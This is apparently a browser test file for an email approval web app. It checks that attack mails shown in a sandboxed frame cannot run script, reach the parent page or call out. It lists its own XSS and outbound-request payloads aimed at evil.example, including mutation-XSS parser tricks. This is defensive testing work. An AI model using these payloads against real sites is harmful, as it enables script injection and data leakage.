/** Every attack mail of the corpora in the frame of the page: nothing leaves, nothing runs, and the frame does not reach the page. */
import { describe, expect, test } from "vitest";
import {
  corpusNote,
  hasCorpus,
  htmlOf,
  listAttackMessages,
  listInjectionMessages,
} from "../support/corpus.ts";
import { openPagesHouse } from "../web/pages-house.ts";
import { chromiumNote, hasChromium, startChromium, takeSeat } from "./chromium.ts";

const own = [
  `<script>top.document.title = "reached"; fetch("https://evil.example/")</script>`,
  `<img src=x onerror="parent.document.title='reached'">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="preconnect" href="https://evil.example"><link rel="dns-prefetch" href="//evil.example">`,
  `<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)} @font-face{font-family:x;src:url(https://evil.example/f.woff)} p{font-family:x}</style><p>text</p>`,
  `<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">`,
  `<form action="https://evil.example/"><input name=a autofocus><button>Go</button></form>`,
  `<svg><script>top.x=1</script><image href="https://evil.example/i.png"/><foreignObject><img src="https://evil.example/j.png"></foreignObject></svg>`,
  `<a href="https://evil.example/" ping="https://evil.example/">click</a><base href="https://evil.example/"><img src="b.png" srcset="https://evil.example/c.png 2x">`,
  `<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3" autoplay>`,
  `<style>p{}</style><style><!--</style><img src=x onerror=alert(1)>--></style>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
];

describe.skipIf(!hasChromium || !hasCorpus)(`the frame${chromiumNote}${corpusNote}`, () => {
  // More than a hundred pages, one after the other.
  test("of every attack mail asks for nothing, runs nothing and reaches nothing", {
    timeout: 900_000,
  }, async () => {
    const mails = [
      ...own,
      ...[
        ...listAttackMessages("html"),
        ...listInjectionMessages(),
        ...listInjectionMessages("injection-2"),
      ].flatMap(({ bytes }) => htmlOf(bytes)),
    ].filter((html) => html.trim() !== "" && html.length < 200_000);
    expect(mails.length).toBeGreaterThan(50);
    await using house = await openPagesHouse([
      "limits.sends_per_hour=0",
      "limits.sends_per_day=0",
      "limits.requests_burst=100000",
      "limits.agent_requests_burst=100000",
    ]);
    await using browser = await startChromium();
    await using seat = await takeSeat(browser, house.origin);
    const { page } = seat;
    await page.goto("/sign-in");
    await page.getByLabel("Your address").fill(house.person.address);
    await page.getByLabel("App password").fill(house.person.password);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await page.waitForURL("**/approvals");
    const wrong: string[] = [];
    for (const [number, html] of mails.entries()) {
      const hold = await house.send({ subject: `Mail ${number}`, text: "x", html });
      await page.goto(`/approvals/${hold}`, { waitUntil: "load" });
      const title = await page.title();
      const [, frame] = page.frames();
      if (!title.includes(`Mail ${number}`)) wrong.push(`${number} reached the page: ${html.slice(0, 80)}`);
      if (frame === undefined || !frame.url().endsWith("/frame"))
        wrong.push(`${number} left: ${frame?.url()} ${html.slice(0, 80)}`);
    }
    expect(wrong).toEqual([]);
    expect(seat.foreign).toEqual([]);
  });
});
